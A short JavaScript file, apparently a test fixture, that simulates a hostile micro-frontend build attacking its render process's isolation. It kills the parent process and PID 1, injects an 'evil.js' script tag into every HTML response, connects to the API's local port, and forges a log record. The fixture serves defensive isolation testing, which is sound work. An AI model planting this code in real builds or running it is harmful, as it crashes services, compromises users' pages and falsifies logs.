// What a hostile team prepends to its remote's server build (the render process runs it when the
// version is active): each attack of the isolation issue that a server build can try by itself.
(() => {
  // Signal the API and every process it can see.
  for (const pid of [process.ppid, process.ppid > 1 ? 1 : 0]) {
    try {
      if (pid > 0) process.kill(pid, 'SIGKILL');
    } catch {}
  }
  // Add its script to every page its process answers.
  const send = process.send.bind(process);
  process.send = (message, ...rest) =>
    send(message && typeof message.html === 'string' ? { ...message, html: `${message.html}<script src="/remotes/mfe-timeline/__VERSION__/evil.js"></script>` } : message, ...rest);
  // Reach the API and the network.
  try {
    require('node:net').connect(Number(process.env.PORT || 8080), '127.0.0.1').on('error', () => {});
  } catch {}
  // Pass for one of the API's log records.
  console.log('{"level":50,"msg":"hostile record"}');
})();
